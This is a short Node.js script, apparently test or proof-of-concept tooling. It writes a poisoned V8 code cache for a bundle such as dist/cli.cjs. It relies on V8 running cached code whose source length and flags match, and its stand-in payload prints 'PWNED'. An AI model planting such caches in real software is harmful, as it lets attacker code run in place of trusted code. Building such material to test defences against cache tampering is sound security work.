// Makes the code cache an attacker would plant: V8 cached data compiled from a bundle of the same
// length as dist/cli.cjs whose code prints PWNED. V8 accepts cached data whose source length and
// flags match, and runs the cached code instead of the source it was given.
// Usage: node plant-cache.cjs <bundle> <out-file>
'use strict';
const fs = require('node:fs');
const vm = require('node:vm');
const [bundle, out] = process.argv.slice(2);
const real = fs.readFileSync(bundle, 'utf8');
const head = 'process.stdout.write("PWNED\\n");process.exit(0);/*';
const evil = head + 'x'.repeat(real.length - head.length - 2) + '*/';
if (evil.length !== real.length) throw new Error('length');
const script = new vm.Script(`(function (exports, require, module, __filename, __dirname) {${evil}\n})`, { filename: bundle });
fs.writeFileSync(out, script.createCachedData());
